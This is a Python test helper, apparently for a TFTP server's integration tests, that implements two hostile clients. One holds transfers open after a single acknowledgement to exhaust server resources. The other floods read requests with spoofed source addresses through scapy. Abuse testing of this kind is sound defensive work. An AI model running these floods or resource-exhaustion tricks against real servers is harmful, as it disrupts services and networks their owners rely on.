#!/usr/bin/python3
"""Hostile TFTP clients for tests/integration/test_tftp_abuse.sh.

  tftp_abuse.py ackonce SERVER SRC N FILE SECS
      N transfers from address SRC, each asking "timeout 255": ACK the
      OACK once, then stay silent for SECS (sockets kept open, so no ICMP
      ends them).  Prints "oack=A refused=R" (refused: an ERROR came).
  tftp_abuse.py flood SERVER NET COUNT PPS FILE [OPTS]
      COUNT read requests with forged sources NET.x (NET: three octets;
      random x and ports), PPS per second (scapy, raw IP); OPTS "opts" adds blksize
      1468, tsize 0 and timeout 255 (an OACK answers), else a plain RRQ
      (DATA 1 answers).
"""
import random
import socket
import struct
import sys
import time


def rrq(name, opts=()):
    p = struct.pack("!H", 1) + name.encode() + b"\0octet\0"
    for k, v in opts:
        p += k.encode() + b"\0" + str(v).encode() + b"\0"
    return p


def ackonce(server, src, n, name, secs):
    socks, oack, refused = [], 0, 0
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((src, 0))
        s.settimeout(2)
        s.sendto(rrq(name, [("timeout", 255), ("blksize", 1024)]), (server, 69))
        try:
            p, a = s.recvfrom(70000)
        except socket.timeout:
            continue
        if p[:2] == b"\0\6":
            oack += 1
            s.sendto(struct.pack("!HH", 4, 0), a)  # once, then silence
        elif p[:2] == b"\0\5":
            refused += 1
        socks.append(s)
    print("oack=%d refused=%d" % (oack, refused), flush=True)
    time.sleep(secs)


def flood(server, net, count, pps, name, opts):
    from scapy.all import IP, UDP, Raw, send, conf
    conf.verb = 0
    o = [("blksize", 1468), ("tsize", 0), ("timeout", 255)] if opts == "opts" else []
    payload = rrq(name, o)
    pkts = [IP(src="%s.%d" % (net, random.randint(1, 254)),
               dst=server) / UDP(sport=random.randint(1024, 65535), dport=69) / Raw(payload)
            for _ in range(count)]
    send(pkts, inter=1.0 / pps)


def main():
    a = sys.argv[1:]
    if a[0] == "ackonce":
        ackonce(a[1], a[2], int(a[3]), a[4], float(a[5]))
    elif a[0] == "flood":
        flood(a[1], a[2], int(a[3]), float(a[4]), a[5], a[6] if len(a) > 6 else "")
    else:
        sys.exit(__doc__)


main()
